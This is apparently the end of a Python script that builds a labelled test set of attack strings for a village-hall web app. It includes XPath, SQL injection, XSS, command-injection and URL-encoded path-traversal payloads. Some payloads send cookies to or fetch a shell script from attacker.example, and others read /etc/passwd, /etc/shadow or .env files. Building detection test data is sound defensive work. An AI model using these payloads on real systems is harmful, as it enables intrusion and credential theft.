    "chair' or count(/users/user)>0 or 'a'='b",
    "'] | //user/password | //*['",
    "' or substring(//user[1]/pin,1,1)='4' or ''='",
    "treasurer' and string-length(//user[name='chair']/password)=8 and '1'='1",
    "1 or 1=1]/../*[1",
    "')] | //booking[contains(.,'",
    "' or doc('http://attacker.example/x.xml') or '",
    "x\"] | /*/*[\"1\"=\"1",
)
assert sum(1 for r in ROWS if r[0] == D) == 20, sum(1 for r in ROWS if r[0] == D)

# ------------------------------------------------ generated (<=10%)
# Hand-written theme prefixes joined to hand-written payload pools.
PREFIX = {
    "sqli": ["yoga", "Main hall", "VH-2024-0231", "O'Reilly", "quiz night", "ceilidh tickets"],
    "xss": ["Lovely evening, thanks!", "Lost cardigan (blue)", "Week 12 rota:", "Ceilidh —", "Roof fund update:"],
    "cmdi": ["minutes_2024-05.pdf", "roof_photo.jpg", "ledger-Q2.csv", "fete-poster.png"],
}
POOL = {
    "sqli": ["' AND 8=8 UNION SELECT username,password FROM committee_users-- -",
             "' OR 3>2-- -",
             "' AND SLEEP(4)-- -",
             "'; SELECT pg_sleep(6)--",
             "' AND 1=CAST((SELECT version()) AS int)--"],
    "xss": [" <img src=x onerror=alert(document.cookie)>",
            " <svg/onload=fetch('//attacker.example/'+document.cookie)>",
            " <script>alert(document.domain)</script>",
            " <iframe src=javascript:alert(1)>"],
    "cmdi": ["; cat /etc/passwd", " && curl attacker.example/i|sh", " | id", " $(whoami)", "`sleep 7`"],
}
GEN_N = {"sqli": 8, "xss": 14, "cmdi": 12}
URLENC = {
    "sqli": ["yoga' OR 1=1-- ", "1 UNION SELECT pin,name FROM keyholders", "quiz'; DROP TABLE ledger;--",
             "x' AND SLEEP(5)#", "' OR 'a'='a", "bingo\" or \"\"=\"", "1) OR (1=1", "hall' oR sleep(3)-- -"],
    "traversal": ["../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../../var/www/hall/.env",
                  "../../../proc/self/environ", "minutes/../../../../etc/shadow"],
}


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    with open(os.path.join(here, "benign.jsonl"), encoding="utf-8") as f:
        for line in f:
            benign.add(json.loads(line)["value"])
    seen = set(r[2] for r in ROWS)
    assert len(seen) == len(ROWS), "duplicate literal"
    gen = []
    for cat in ["sqli", "xss", "cmdi"]:
        n = 0
        tries = 0
        while n < GEN_N[cat]:
            tries += 1
            assert tries < 5000
            v = rng.choice(PREFIX[cat]) + rng.choice(POOL[cat])
            if v in seen:
                continue
            seen.add(v)
            gen.append((cat, "prefixed-pool", v, False))
            n += 1
    for cat in ["sqli", "traversal"]:
        for p in URLENC[cat]:
            v = urlencode_all(p)
            assert v not in seen
            seen.add(v)
            gen.append((cat, cat + "+urlencode", v, False))
    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    rows = []
    for cat in order:
        rows += [r for r in ROWS if r[0] == cat]
        rows += [r for r in gen if r[0] == cat]
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v, _) in enumerate(rows, 1):
            assert 1 <= len(v) <= 2000, v
            assert v not in benign, v
            for ch in v:
                assert ch in "\n\r\t" or ord(ch) >= 32, repr(v)
            f.write(json.dumps({"id": "hakd-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    total = len(rows)
    nlit = sum(1 for r in rows if r[3])
    for cat in order:
        print(cat, sum(1 for r in rows if r[0] == cat), sum(1 for r in rows if r[0] == cat and r[3]))
    print("total", total, "literals", nlit, "%.1f%%" % (100.0 * nlit / total))


if __name__ == "__main__":
    main()
